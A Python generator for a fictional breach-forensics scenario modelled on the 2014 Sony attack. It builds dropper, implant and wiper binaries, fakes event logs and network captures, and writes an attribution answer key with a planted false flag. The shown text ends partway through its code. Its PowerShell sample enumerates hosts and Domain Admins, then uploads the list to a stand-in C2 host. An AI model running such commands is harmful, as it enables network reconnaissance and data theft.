#!/usr/bin/env python3
"""gen.py -- writes the evidence folder of a fictional studio breach (modelled
on Sony Pictures, 2014) and its ground truth, deterministically from a seed.

    python3 scenarios/gen.py OUT [--seed N] [--size small|medium|large]
        [--hosts N] [--days N] [--exfil-mb N] [--background-mb N]
        [--benign-only] [--build BUILD_DIR] [--keep-going]

OUT/evidence/ holds hosts/<HOST>/{logs,files}/ and network/; OUT/truth.json
the ground truth.  Binaries come from scenarios/src/ (mingw-w64), event logs
from BUILD/tools/mkevtx, captures from BUILD/tools/mkbreach (script mode) and
BUILD/tools/mkpcap.  Python standard library only; see scenarios/README.md.
"""
import argparse
import bisect
import calendar
import hashlib
import ipaddress
import json
import os
import random
import shutil
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
SRC = os.path.join(HERE, "src")
DOMAIN, ZONE = "CRESTLINE", "crestline.corp"
GEOIP = "/usr/share/tor/geoip"

SIZES = {  # hosts, days, exfil MB, background MB, log events per host and day
    "small": (16, 2, 900, 40, 120),
    "medium": (60, 7, 8000, 2000, 600),
    "large": (200, 30, 60000, 30000, 2000),
}

# Attacker infrastructure (addresses chosen from tor-geoipdb ranges; the
# country is looked up again at generation time and recorded in the truth).
INFRA = {
    "drop": ("3.0.130.44", "SG", "docs.crestline-hr.example"),
    "c2": ("1.46.130.17", "TH", "update.igfxcdn.example"),
    "exfil": [("2.38.77.164", "IT"), ("179.58.110.46", "BO"), ("5.173.100.23", "PL")],
    "tunnel": "msupdate-dns.example",
}
BENIGN_NET = [("2.2.14.", "US"), ("2.160.40.", "DE"), ("13.80.12.", "NL"), ("3.250.4.", "IE"),
              ("2.96.31.", "GB"), ("2.3.50.", "FR")]
SITES = ["www.wikipedia.org", "www.debian.org", "fonts.gstatic.com", "www.bbc.co.uk",
         "login.microsoftonline.com", "www.variety.com", "www.imdb.com", "assets.adobe.com",
         "update.avid.com", "cdn.jsdelivr.net", "www.hollywoodreporter.com", "maps.google.com"]
FIRST = ["james", "maria", "robert", "linda", "michael", "susan", "david", "karen", "daniel",
         "nancy", "paul", "lisa", "mark", "betty", "steven", "sandra", "kevin", "ashley", "brian",
         "emily", "jason", "donna", "ryan", "carol", "eric", "ruth", "gary", "sharon", "frank",
         "laura"]
LAST = ["morgan", "walker", "lee", "garcia", "chen", "patel", "rivera", "brooks", "foster",
        "hayes", "price", "bennett", "ward", "cole", "reed", "bailey", "kelly", "howard", "cox",
        "perry", "long", "hughes", "russell", "griffin", "diaz", "myers", "ford", "hamilton",
        "graham", "sullivan"]

SEC, SYS = "Security", "System"
SYSMON = "Microsoft-Windows-Sysmon/Operational"
PWSH = "Microsoft-Windows-PowerShell/Operational"
CHANNELS = [(SEC, "Security.evtx"), (SYS, "System.evtx"),
            (SYSMON, "Microsoft-Windows-Sysmon%4Operational.evtx"),
            (PWSH, "Microsoft-Windows-PowerShell%4Operational.evtx")]
PROV = {SEC: "Microsoft-Windows-Security-Auditing", SYSMON: "Microsoft-Windows-Sysmon",
        PWSH: "Microsoft-Windows-PowerShell"}
IMPLANT_PATH = "C:\\ProgramData\\igfxtrayex.exe"
WIPER_PATH = "C:\\Windows\\Temp\\diskpartmg16.exe"
SERVICE = "IgfxTrayHelper"
TASK = "\\Microsoft\\Windows\\Intel\\GfxUpdate"
ADMIN = "adm.rwalker"


def die(msg):
    sys.stderr.write("gen.py: %s\n" % msg)
    sys.exit(1)


def rng(seed, *what):
    """An independent random stream per component, so the benign-only
    variant gets exactly the noise of the breach variant."""
    h = hashlib.sha256(("%d:" % seed + ":".join(str(w) for w in what)).encode()).digest()
    return random.Random(int.from_bytes(h[:8], "big"))


def iso(t):
    us = int(round(t * 1e6))
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(us // 1000000)) + ".%06dZ" % (us % 1000000)


def epoch(y, mo, d, h=0, mi=0, s=0):
    return calendar.timegm((y, mo, d, h, mi, s, 0, 0, 0))


def guid(r):
    v = "%032x" % r.getrandbits(128)
    return "{%s-%s-%s-%s-%s}" % (v[:8], v[8:12], v[12:16], v[16:20], v[20:])


# ---- GeoIP -------------------------------------------------------------------

class Geo:
    """Country of an IPv4 address from tor-geoipdb's range file (FROM,TO,CC)."""

    def __init__(self, path):
        self.lo, self.hi, self.cc = [], [], []
        if not os.path.exists(path):
            return
        with open(path) as f:
            for line in f:
                if line[:1] in "#\n":
                    continue
                a, b, c = line.strip().split(",")
                self.lo.append(int(a)); self.hi.append(int(b)); self.cc.append(c)

    def country(self, ip, default):
        if not self.lo:
            return default
        v = int(ipaddress.IPv4Address(ip))
        i = bisect.bisect_right(self.lo, v) - 1
        return self.cc[i] if i >= 0 and v <= self.hi[i] else "??"


# ---- the plan: hosts, accounts, times ----------------------------------------

def plan(a):
    r = rng(a.seed, "plan")
    n = a.hosts
    nfs = max(2, n // 30)
    nws = n - 2 - nfs
    hosts = [{"name": "DC01", "role": "domain-controller", "ip": "10.20.1.10"}]
    hosts += [{"name": "FS%02d" % (i + 1), "role": "file-server", "ip": "10.20.1.%d" % (21 + i)}
              for i in range(nfs)]
    hosts.append({"name": "MAIL01", "role": "mail-gateway", "ip": "10.20.1.30"})
    used = set()
    for i in range(nws):
        while True:
            u = r.choice(FIRST)[0] + r.choice(LAST)
            if u not in used:
                break
            u += str(len(used))
            if u not in used:
                break
        used.add(u)
        hosts.append({"name": "WS%03d" % (i + 1), "role": "workstation", "user": u,
                      "ip": "10.20.%d.%d" % (10 + i // 250, i % 250 + 1)})
    for h in hosts:
        h["fqdn"] = "%s.%s" % (h["name"], ZONE)
        h["user"] = h.get("user")
        h["fs"] = "FS%02d" % (1 + int(h["name"][2:]) % nfs) if h["role"] == "workstation" else None
    ws = [h for h in hosts if h["role"] == "workstation"]
    pz = ws[r.randrange(len(ws))]
    others = [h for h in hosts if h is not pz]
    servers = [h for h in others if h["role"] != "workstation"]
    wso = [h for h in others if h["role"] == "workstation"]
    k = max(11 - len(servers), int(len(wso) * 0.6))
    targets = servers + sorted(r.sample(wso, min(k, len(wso))), key=lambda h: h["name"])
    last = epoch(2014, 11, 24)
    day0 = last - (a.days - 1) * 86400
    return {"hosts": hosts, "by": {h["name"]: h for h in hosts}, "pz": pz, "targets": targets,
            "nfs": nfs, "day0": day0, "days": a.days, "last": last}


def build_time(day, hour, minute, tz):
    """Epoch of HH:MM local time (UTC+tz) on the working day at or before `day`."""
    while time.gmtime(day).tm_wday >= 5:
        day -= 86400
    return day + hour * 3600 + minute * 60 - tz * 3600


# ---- binaries -----------------------------------------------------------------

MAL = [  # name, file name, epoch offset (days before the first day), hour, minute, capabilities
    ("dropper", "igfxtray-setup.exe", -26, 10, 23,
     [("ingress-download", "T1105"), ("command-shell", "T1059.003"),
      ("run-key-persistence", "T1547.001"), ("embedded-driver", "T1027.009")],
     "C:\\Users\\jhpark\\Projects\\Setup\\Release\\igfxtray-setup.pdb"),
    ("implant", "igfxtrayex.exe", -27, 14, 5,
     [("c2-http", "T1071.001"), ("smb-share-spreading", "T1021.002"),
      ("service-creation", "T1543.003"), ("remote-service-execution", "T1569.002"),
      ("network-share-discovery", "T1135")],
     "C:\\Users\\jhpark\\Projects\\Bridge\\Release\\igfxtrayex.pdb"),
    ("wiper", "diskpartmg16.exe", None, 11, 40,
     [("raw-disk-access", "T1561"), ("service-creation", "T1543.003"),
      ("embedded-driver", "T1027.009"), ("event-log-clearing", "T1070.001"),
      ("system-shutdown", "T1529")],
     "C:\\Users\\jhpark\\Projects\\Destroyer\\Release\\diskpartmg16.pdb"),
]
BENIGN = [("renderq", "renderq.exe", "Render queue client"),
          ("timesheet", "timesheet.exe", "Timesheet entry tool")]

# ---- planted contradiction (for the attribution answer; tests/cli/test_answers.sh) ----
# The wiper also carries a string table in Russian (LANGUAGE 0x19, Cyrillic text), a
# second language on one build next to its Korean resources: the kind of clue a group
# plants as a false flag.  Its build hours still fit UTC+9 (Korea), not Moscow's UTC+3,
# so the honest reading stays Korean with the Russian strings the odd one out.
PLANT = {"binary": "wiper", "lang_id": 0x0419, "language": "ru-RU Russian", "script": "Cyrillic",
         "strings": ["Ошибка: диск не найден", "Операция завершена"]}


def planted_objs(name, wr, tmp, env):
    """Extra resource objects linked into `name` (only the wiper gets one)."""
    if name != PLANT["binary"]:
        return []
    rc = os.path.join(tmp, "planted_ru.rc")
    with open(rc, "w", encoding="utf-8") as f:
        f.write("/* planted_ru.rc -- written by scenarios/gen.py (planted contradiction) */\n")
        f.write("LANGUAGE 0x%02x, 0x01\nSTRINGTABLE\nBEGIN\n" % (PLANT["lang_id"] & 0x3ff))
        for i, text in enumerate(PLANT["strings"]):
            f.write('  %d, "%s"\n' % (32 + i, text))
        f.write("END\n")
    sh([wr, "-c", "65001", "-O", "coff", "-o", "planted_ru.o", rc], tmp, env)
    return ["planted_ru.o"]


def planted_truth(bins, geo_countries):
    """What the attribution answer should report (truth.json "attribution")."""
    b = bins[PLANT["binary"]]
    return {"language": "ko-KR", "lang_id": "0x0412", "utc_offset_hours": 9,
            "toolchain": "GNU ld (MinGW-w64)", "pdb_user": "jhpark",
            "infrastructure_countries": sorted(set(geo_countries)),
            "contradictions": [{"kind": "second-language", "binary": PLANT["binary"], "file": b["file"],
                                "sha256": b["sha256"], "language": PLANT["language"],
                                "lang_id": "0x%04x" % PLANT["lang_id"], "script": PLANT["script"],
                                "planted_as": "a Russian string table in the wiper's resources"}]}
# ---- end of planted contradiction ----


def sh(cmd, cwd, env=None):
    p = subprocess.run(cmd, cwd=cwd, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    if p.returncode:
        die("%s failed:\n%s" % (" ".join(cmd), p.stdout.decode(errors="replace")[-2000:]))


def wlit(s):
    return 'L"' + s.replace("\\", "\\\\") + '"'


def build_binaries(a, P, tmp, attack):
    cc = os.environ.get("MINGW_CC", "x86_64-w64-mingw32-gcc")
    wr = os.environ.get("MINGW_WINDRES", "x86_64-w64-mingw32-windres")
    for tool in (cc, wr):
        if not shutil.which(tool):
            die("%s not found (apt-get install gcc-mingw-w64-x86-64 binutils-mingw-w64-x86-64)" % tool)
    out = {}
    base = dict(os.environ, LC_ALL="C", TZ="UTC")

    def link(name, srcs, stamp, pdb=None, libs=(), extra=()):
        env = dict(base, SOURCE_DATE_EPOCH=str(stamp))
        cmd = [cc, "-O2", "-s", "-I", SRC, "-I", tmp, "-Wl,--insert-timestamp"] + list(extra)
        if pdb:
            cmd.append("-Wl,--pdb=" + pdb)
        sh(cmd + ["-o", name] + srcs + list(libs), tmp, env)
        if pdb and os.path.exists(os.path.join(tmp, pdb)):
            os.remove(os.path.join(tmp, pdb))  # ld's PDB file; only the path matters
        return os.path.join(tmp, name)

    if attack:
        pz, tg = P["pz"], P["targets"]
        with open(os.path.join(tmp, "scenario.h"), "w") as f:
            f.write("/* scenario.h -- written by scenarios/gen.py */\n")
            f.write("#define SC_DROP_HOST %s\n" % wlit(INFRA["drop"][2]))
            f.write("#define SC_C2_HOST %s\n" % wlit(INFRA["c2"][2]))
            f.write('#define SC_C2_IPS "%s"\n' % ";".join([INFRA["c2"][0]] + [e[0] for e in INFRA["exfil"]]))
            f.write("#define SC_SERVICE %s\n" % wlit(SERVICE))
            f.write("#define SC_TARGET_HOST %s\n" % wlit(tg[0]["name"]))
            f.write("#define SC_WIPE_TARGETS %s\n" % ", ".join(wlit(h["name"]) for h in tg[:12] + [pz]))
        stamps = {}
        for name, fname, off, hh, mm, caps, pdb in MAL:
            day = P["day0"] + off * 86400 if off is not None else P["last"] - 4 * 86400
            stamps[name] = build_time(day, hh, mm, 9)
        link("driver.sys", [os.path.join(SRC, "driver.c")], stamps["wiper"],
             extra=["-nostdlib", "-Wl,--subsystem,native", "-Wl,--entry,DriverEntry"])
        for name, fname, off, hh, mm, caps, pdb in [MAL[1], MAL[2], MAL[0]]:
            sh([wr, "-c", "65001", "-I", SRC, "-I", tmp, "-O", "coff", "-o", name + "_res.o",
                os.path.join(SRC, name + ".rc")], tmp, base)
            libs = {"dropper": ["-lurlmon", "-ladvapi32"], "implant": ["-lwininet", "-lmpr", "-lnetapi32"],
                    "wiper": ["-ladvapi32"]}[name]
            p = link(name + ".exe", [os.path.join(SRC, name + ".c"), name + "_res.o"] + planted_objs(name, wr, tmp, base), stamps[name],
                     pdb, libs)
            out[name] = {"path": p, "file": fname, "build_time": stamps[name], "pdb": pdb,
                         "caps": caps}
    stamp = build_time(P["day0"] - 140 * 86400, 10, 15, -8)
    for i, (name, fname, desc) in enumerate(BENIGN):
        sh([wr, "-c", "65001", "-D", 'SC_DESC=\\"%s\\"' % desc, "-D", 'SC_FILE=\\"%s\\"' % fname,
            "-O", "coff", "-o", name + "_res.o", os.path.join(SRC, "benign.rc")], tmp, base)
        p = link(name + ".exe", [os.path.join(SRC, "benign.c"), name + "_res.o"], stamp + i * 86400 * 3,
                 extra=['-DSC_BENIGN_NAME="%s"' % name])
        out[name] = {"path": p, "file": fname, "build_time": stamp + i * 86400 * 3, "desc": desc}
    for v in out.values():
        v["sha256"] = hashlib.sha256(open(v["path"], "rb").read()).hexdigest()
    return out


# ---- event logs -----------------------------------------------------------------

def ev(ch, eid, t, host, data, user_sid="S-1-5-18", provider=None, **kw):
    e = {"channel": ch, "provider": provider or PROV.get(ch, "Service Control Manager"),
         "event_id": eid, "time": iso(t), "computer": host["fqdn"]}
    if user_sid:
        e["user_sid"] = user_sid
    e.update(kw)
    e["data"] = data
    return (t, e)


def sid_of(name):
    h = int(hashlib.sha256(name.encode()).hexdigest()[:6], 16)
    return "S-1-5-21-3623811015-3361044348-30300820-%d" % (1100 + h % 90000)


def logon(t, host, user, dom, ltype, ip, ws, ok=True, auth="Kerberos", r=None):
    d = {"SubjectUserSid": "S-1-0-0" if ltype == 3 else "S-1-5-18", "SubjectUserName": "-",
         "SubjectDomainName": "-", "SubjectLogonId": {"type": "hex64", "value": "0x0"},
         "TargetUserSid": sid_of(user) if ok else "S-1-0-0", "TargetUserName": user,
         "TargetDomainName": dom}
    if ok:
        d["TargetLogonId"] = {"type": "hex64", "value": "0x%x" % (r.getrandbits(28) if r else 0x3e7)}
        d["LogonType"] = ltype
        d["LogonProcessName"] = "Kerberos" if auth == "Kerberos" else "NtLmSsp"
    else:
        d["Status"] = {"type": "hex32", "value": "0xc000006d"}
        d["FailureReason"] = "%%2313"
        d["SubStatus"] = {"type": "hex32", "value": "0xc000006a"}
        d["LogonType"] = ltype
        d["LogonProcessName"] = "NtLmSsp"
    d["AuthenticationPackageName"] = auth
    d["WorkstationName"] = ws or "-"
    d["IpAddress"] = ip or "-"
    d["IpPort"] = str(49152 + (r.randrange(16000) if r else 0)) if ip else "-"
    return ev(SEC, 4624 if ok else 4625, t, host, d, user_sid=None, keywords="0x8020000000000000"
              if ok else "0x8010000000000000", task=12544, level=0)


def sysmon_proc(t, host, image, cmd, user, parent, sha, r):
    return ev(SYSMON, 1, t, host, {
        "RuleName": "-", "UtcTime": iso(t)[:23].replace("T", " "), "ProcessGuid": guid(r),
        "ProcessId": r.randrange(1000, 9000), "Image": image, "CommandLine": cmd,
        "CurrentDirectory": "C:\\Windows\\system32\\", "User": user,
        "Hashes": "SHA256=" + sha.upper(), "ParentImage": parent}, level=4, version=5, task=1)


def svc_install(t, host, name, image, stype, start):
    return ev(SYS, 7045, t, host, {"ServiceName": name, "ImagePath": image, "ServiceType": stype,
                                   "StartType": start, "AccountName": "LocalSystem"},
              provider="Service Control Manager", qualifiers=16384, level=4,
              keywords="0x8080000000000000",
              provider_guid="{555908d1-a6d7-4695-8e1e-26931d2012f4}")


BENIGN_PROCS = [("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe"),
                ("C:\\Program Files\\Microsoft Office\\Office15\\OUTLOOK.EXE", "OUTLOOK.EXE"),
                ("C:\\Program Files\\Microsoft Office\\Office15\\EXCEL.EXE", "EXCEL.EXE"),
                ("C:\\Windows\\System32\\notepad.exe", "notepad.exe"),
                ("C:\\Program Files\\Avid\\Media Composer\\AvidMediaComposer.exe", "AvidMediaComposer.exe"),
                ("C:\\Windows\\explorer.exe", "explorer.exe")]
SERVICES_NOISE = ["Windows Update", "Background Intelligent Transfer Service", "Windows Modules Installer",
                  "WinHTTP Web Proxy Auto-Discovery Service", "Software Protection", "Print Spooler"]
ADMIN_SCRIPTS = ["Get-Service | Where-Object {$_.Status -eq 'Stopped'} | Select-Object -First 5",
                 "Get-PSDrive -PSProvider FileSystem | Select-Object Name, Used, Free",
                 "Get-ChildItem -Path D:\\Shares\\Projects -Directory | Measure-Object",
                 "Get-Date -Format o | Out-File -FilePath C:\\Scripts\\lastrun.txt"]


def noise(a, P, host, day, ch, benign_bins):
    """Ordinary activity of one host, channel and day, in time order."""
    r = rng(a.seed, "noise", host["name"], day, ch)
    d0 = P["day0"] + day * 86400
    n = max(4, int(a.events * {SEC: 0.45, SYS: 0.1, SYSMON: 0.4, PWSH: 0.05}[ch]))
    by, out = P["by"], []
    ws = [h for h in P["hosts"] if h["role"] == "workstation"]
    for _ in range(n):
        t = d0 + 15 * 3600 + r.random() * 11 * 3600 if r.random() < 0.85 else d0 + r.random() * 86400
        t = round(t, 3)
        if ch == SEC:
            k = r.random()
            if host["role"] == "workstation":
                if k < 0.6:
                    out.append(logon(t, host, host["user"], DOMAIN, r.choice([2, 7, 11]), "127.0.0.1",
                                     host["name"], r=r))
                elif k < 0.95:
                    out.append(logon(t, host, host["name"] + "$", DOMAIN, 3, by["DC01"]["ip"], "", r=r))
                else:
                    out.append(logon(t, host, host["user"], DOMAIN, 7, "127.0.0.1", host["name"],
                                     ok=False, auth="Negotiate", r=r))
            else:
                c = r.choice(ws)
                if host["role"] == "file-server" and c["fs"] != host["name"] and r.random() < 0.8:
                    c = r.choice([w for w in ws if w["fs"] == host["name"]] or ws)
                ok = r.random() > 0.02
                out.append(logon(t, host, c["user"], DOMAIN, 3, c["ip"], c["name"], ok=ok,
                                 auth="Kerberos" if ok else "NTLM", r=r))
        elif ch == SYS:
            s = r.choice(SERVICES_NOISE)
            out.append(ev(SYS, 7036, t, host, {"param1": s, "param2": r.choice(["running", "stopped"])},
                          user_sid=None, provider="Service Control Manager", qualifiers=16384, level=4))
        elif ch == SYSMON:
            k = r.random()
            img, exe = r.choice(BENIGN_PROCS)
            user = "%s\\%s" % (DOMAIN, host["user"] or "svc_backup")
            if k < 0.5:
                sha = hashlib.sha256(img.encode()).hexdigest()
                out.append(sysmon_proc(t, host, img, '"%s"' % img, user, "C:\\Windows\\explorer.exe", sha, r))
            elif k < 0.7 and benign_bins:
                b = r.choice(benign_bins)
                p = "C:\\Program Files\\Crestline\\" + b["file"]
                out.append(sysmon_proc(t, host, p, '"%s" --sync' % p, user, "C:\\Windows\\explorer.exe",
                                       b["sha256"], r))
            elif k < 0.9:
                out.append(ev(SYSMON, 11, t, host, {"RuleName": "-", "UtcTime": iso(t)[:23].replace("T", " "),
                                                    "ProcessGuid": guid(r), "ProcessId": r.randrange(1000, 9000),
                                                    "Image": img, "TargetFilename": "C:\\Users\\%s\\AppData\\Local\\Temp\\%s.tmp"
                                                    % (host["user"] or "svc_backup", guid(r)[1:9])},
                              level=4, version=2, task=11))
            else:
                out.append(ev(SYSMON, 23, t, host, {"RuleName": "-", "UtcTime": iso(t)[:23].replace("T", " "),
                                                    "ProcessGuid": guid(r), "ProcessId": r.randrange(1000, 9000),
                                                    "User": user, "Image": img,
                                                    "TargetFilename": "C:\\Users\\%s\\AppData\\Local\\Temp\\~%s.tmp"
                                                    % (host["user"] or "svc_backup", guid(r)[1:9]),
                                                    "Hashes": "SHA256=" + "0" * 64, "IsExecutable": False,
                                                    "Archived": "false"}, level=4, version=5, task=23))
        else:
            if host["role"] == "workstation" and r.random() < 0.7:
                continue
            out.append(ev(PWSH, 4104, t, host, {"MessageNumber": 1, "MessageTotal": 1,
                                                "ScriptBlockText": r.choice(ADMIN_SCRIPTS),
                                                "ScriptBlockId": guid(r)[1:-1], "Path": ""},
                          user_sid=sid_of("svc_backup"), level=5, task=2, opcode=15,
                          provider_guid="{a0c1853b-5c40-4b15-8766-3cf1c58f985a}"))
    out.sort(key=lambda x: x[0])
    return out


# ---- the attack ---------------------------------------------------------------------

B32 = "abcdefghijklmnopqrstuvwxyz234567"

SCRIPT_PARTS = [
    "$ErrorActionPreference = 'SilentlyContinue'\n$wc = New-Object System.Net.WebClient\n"
    "$wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0)')\n",
    "$hosts = ([adsisearcher]'(objectCategory=computer)').FindAll() | ForEach-Object { $_.Properties.name }\n"
    "foreach ($h in $hosts) { if (Test-Connection -ComputerName $h -Count 1 -Quiet) { $h | Out-File -Append "
    "C:\\ProgramData\\h.txt } }\n",
    "net group \"Domain Admins\" /domain | Out-File -Append C:\\ProgramData\\h.txt\n"
    "$wc.UploadFile('https://%s/search.php', 'C:\\ProgramData\\h.txt')\n" % INFRA["c2"][2],
]


class Attack:
    """Events, sessions and stage times of the intrusion."""

    def __init__(self, a, P, bins):
        self.a, self.P, self.bins = a, P, bins
        self.r = rng(a.seed, "attack")
        self.events = {}      # (host, channel) -> [(t, event)]
        self.sessions = {}    # day -> [(t, line)]
        self.stages = []
        self.exfil = []
        self.c2 = []
        self.scan = None
        self.tunnel = None
        self.download = None
        self.infected, self.wiped = {}, {}   # host -> time the implant / wiper arrived

    def add(self, host, item):
        self.events.setdefault((host["name"], item[1]["channel"]), []).append(item)

    def net(self, t, line):
        day = int((t - self.P["day0"]) // 86400)
        self.sessions.setdefault(day, []).append((t, "%.6f %s" % (t, line)))

    def stage(self, name, tactic, techniques, first, last, hosts, evidence, what):
        self.stages.append({"stage": name, "tactic": tactic, "techniques": techniques,
                            "first": iso(first), "last": iso(last),
                            "hosts": sorted({h["name"] for h in hosts}), "evidence": evidence,
                            "description": what})

    def run(self):
        P, r, b = self.P, self.r, self.bins
        pz, tg, dc = P["pz"], P["targets"], P["by"]["DC01"]
        t0, last = P["day0"], P["last"]
        user = "%s\\%s" % (DOMAIN, pz["user"])
        drop_ip, _, drop_host = INFRA["drop"]
        c2_ip, _, c2_host = INFRA["c2"]

        t_mail = t0 + 16 * 3600 + 48 * 60 + 10
        self.net(t_mail, "tcp %s %s 25 48211 912 full" % (drop_ip, P["by"]["MAIL01"]["ip"]))
        t_dl = t0 + 17 * 3600 + 14 * 60 + 5
        self.download = {"time": t_dl, "client": pz["ip"], "client_name": pz["name"], "user": pz["user"], "server": drop_ip, "host": drop_host}
        self.stage("initial-access", "initial-access", ["T1566.002", "T1204.002"], t_mail, t_dl + 1,
                   [pz, P["by"]["MAIL01"]], ["capture"],
                   "spear-phishing mail through MAIL01, then %s downloads the dropper over HTTP from %s (%s)"
                   % (pz["name"], drop_host, drop_ip))

        t_ex = t_dl + 35
        dl = "C:\\Users\\%s\\Downloads\\%s" % (pz["user"], b["dropper"]["file"])
        self.add(pz, sysmon_proc(t_ex, pz, dl, '"%s"' % dl, user, "C:\\Windows\\explorer.exe",
                                 b["dropper"]["sha256"], r))
        self.add(pz, ev(SYSMON, 11, t_ex + 3, pz, {"RuleName": "-", "UtcTime": iso(t_ex + 3)[:23].replace("T", " "),
                                                   "ProcessGuid": guid(r), "ProcessId": 4711, "Image": dl,
                                                   "TargetFilename": IMPLANT_PATH}, level=4, version=2, task=11))
        self.infected[pz["name"]] = t_ex + 3
        self.add(pz, sysmon_proc(t_ex + 5, pz, IMPLANT_PATH, '"%s"' % IMPLANT_PATH, user, dl,
                                 b["implant"]["sha256"], r))
        sbid = guid(r)[1:-1]
        for i, part in enumerate(SCRIPT_PARTS):
            self.add(pz, ev(PWSH, 4104, t_ex + 60 + i * 0.01, pz,
                            {"MessageNumber": i + 1, "MessageTotal": len(SCRIPT_PARTS),
                             "ScriptBlockText": part, "ScriptBlockId": sbid, "Path": ""},
                            user_sid=sid_of(pz["user"]), level=3, task=2, opcode=15,
                            provider_guid="{a0c1853b-5c40-4b15-8766-3cf1c58f985a}"))
        self.stage("execution", "execution", ["T1204.002", "T1059.001"], t_ex, t_ex + 61, [pz],
                   ["evtx:Sysmon 1", "evtx:PowerShell 4104"],
                   "the dropper runs on %s, writes and starts the implant; a 3-part PowerShell script "
                   "block enumerates hosts and Domain Admins" % pz["name"])

        t_p = t_ex + 90
        self.add(pz, svc_install(t_p, pz, SERVICE, IMPLANT_PATH + " -s", "user mode service", "auto start"))
        task_xml = ("<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task version=\"1.2\"><Actions Context=\"Author\">"
                    "<Exec><Command>%s</Command><Arguments>-t</Arguments></Exec></Actions></Task>" % IMPLANT_PATH)
        self.add(pz, ev(SEC, 4698, t_p + 20, pz, {"SubjectUserSid": sid_of(pz["user"]),
                                                  "SubjectUserName": pz["user"], "SubjectDomainName": DOMAIN,
                                                  "SubjectLogonId": {"type": "hex64", "value": "0x2a4f1"},
                                                  "TaskName": TASK, "TaskContent": task_xml},
                        user_sid=None, task=12804, keywords="0x8020000000000000"))
        self.stage("persistence", "persistence", ["T1543.003", "T1053.005"], t_p, t_p + 20, [pz],
                   ["evtx:System 7045", "evtx:Security 4698"],
                   "service %s and scheduled task %s start the implant" % (SERVICE, TASK))

        t_sc = t0 + 18 * 3600 + 40 * 60
        opened = {53, 88, 135, 139, 389, 445, 464, 636}
        for port in range(1, 121):
            self.net(t_sc + port * 0.05, ("tcp %s %s %d 40 40" if port in opened else "syn %s %s %d")
                     % (pz["ip"], dc["ip"], port))
        self.scan = {"source": pz["name"], "target": "DC01", "ports": 120}
        self.stage("discovery", "discovery", ["T1046"], t_sc, t_sc + 6, [pz, dc], ["capture"],
                   "%s scans ports 1-120 of DC01" % pz["name"])

        t_c = t0 + 19 * 3600 + 5 * 60
        for i in range(24):
            self.add(dc, logon(t_c + i * 6.5, dc, ADMIN, DOMAIN, 3, pz["ip"], pz["name"], ok=False,
                               auth="NTLM", r=r))
        self.add(dc, logon(t_c + 200, dc, ADMIN, DOMAIN, 3, pz["ip"], pz["name"], auth="NTLM", r=r))
        self.stage("credential-access", "credential-access", ["T1110"], t_c, t_c + 200, [pz, dc],
                   ["evtx:Security 4625", "evtx:Security 4624"],
                   "24 failed logons of %s\\%s on DC01 from %s within 3 minutes, then a network logon"
                   % (DOMAIN, ADMIN, pz["name"]))

        def fan_out(t_l, wave):
            for i, h in enumerate(tg):
                t = t_l + 45 * i + r.random() * 5
                self.net(t, "tcp %s %s 445 %d %d full" % (pz["ip"], h["ip"], 9000 + r.randrange(4000),
                                                          4000 + r.randrange(2000)))
                self.add(h, logon(t + 1, h, ADMIN, DOMAIN, 3, pz["ip"], pz["name"], auth="NTLM", r=r))
                (self.infected if wave == 0 else self.wiped)[h["name"]] = t + 3
                if wave == 0:
                    self.add(h, svc_install(t + 4, h, SERVICE, IMPLANT_PATH + " -s", "user mode service",
                                            "auto start"))
                    self.add(h, sysmon_proc(t + 8, h, IMPLANT_PATH, '"%s" -s' % IMPLANT_PATH, "NT AUTHORITY\\SYSTEM",
                                            "C:\\Windows\\System32\\services.exe", b["implant"]["sha256"], r))
            return t_l + 45 * len(tg) + 5

        t_l = t0 + 19 * 3600 + 20 * 60
        t_le = fan_out(t_l, 0)
        t_w = last + 14 * 3600 + 20 * 60
        t_we = fan_out(t_w, 1)
        self.stage("lateral-movement", "lateral-movement", ["T1021.002", "T1569.002"], t_l, t_we, [pz] + tg,
                   ["capture", "evtx:Security 4624", "evtx:System 7045"],
                   "%s opens SMB sessions to %d hosts with %s\\%s and installs the implant as service %s; "
                   "a second wave on the last day carries the wiper" % (pz["name"], len(tg), DOMAIN, ADMIN, SERVICE))

        # C2: beaconing every 60 s +- 15 % from patient zero and the first file server.
        end = last + 14 * 3600 + 45 * 60
        fs1 = P["by"]["FS01"]
        for src, start in ((pz, t_ex + 120), (fs1, t_le + 300)):
            t, n = start, 0
            while t < end:
                self.net(t, "tls %s %s 443 %s %d %d" % (src["ip"], c2_ip, c2_host, 600 + r.randrange(300),
                                                        300 + r.randrange(1700)))
                n += 1
                t += 60 * (1 + (r.random() * 0.3 - 0.15))
            self.c2.append({"source": src["name"], "source_ip": src["ip"], "dest_ip": c2_ip, "sni": c2_host,
                            "port": 443, "connections": n, "period_s": 60, "jitter": 0.15,
                            "first": iso(start), "last": iso(t)})
        self.stage("command-and-control", "command-and-control", ["T1071.001", "T1573"], t_ex + 120, end,
                   [pz, fs1], ["capture", "binary strings"],
                   "HTTPS beaconing every 60 s (+-15 %%) to %s (%s)" % (c2_host, c2_ip))

        # DNS tunnel, the day after the intrusion (or the same day).
        td = t0 + min(1, P["days"] - 1) * 86400 + 11 * 3600 + 30 * 60
        names = 150
        for i in range(names):
            lab = "".join(r.choice(B32) for _ in range(52))
            self.net(td + i * 2, "dns %s %s %s.%s.d.%s 16" % (pz["ip"], dc["ip"], lab[:26], lab[26:], INFRA["tunnel"]))
        self.tunnel = {"source": pz["name"], "resolver": "DC01", "domain": INFRA["tunnel"], "queries": names,
                       "first": iso(td), "last": iso(td + 2 * (names - 1))}

        # Exfiltration: every day, in 25 MB uploads, mostly at night in Los Angeles.
        srcs = [fs1, P["by"]["FS02"], pz]
        per = int(self.a.exfil_mb * 1000000 // (len(INFRA["exfil"]) * P["days"]))
        t_first = t_last = None
        for (ip, _cc), src in zip(INFRA["exfil"], srcs):
            rec = {"source": src["name"], "source_ip": src["ip"], "dest_ip": ip, "port": 443, "bytes": 0,
                   "flows": 0, "per_day": []}
            for day in range(P["days"]):
                d0 = t0 + day * 86400
                lo, hi = (d0 + 21 * 3600, d0 + 23.9 * 3600) if day == 0 else (d0 + 6 * 3600, d0 + 13 * 3600)
                left, k = per, max(1, -(-per // 25000000))
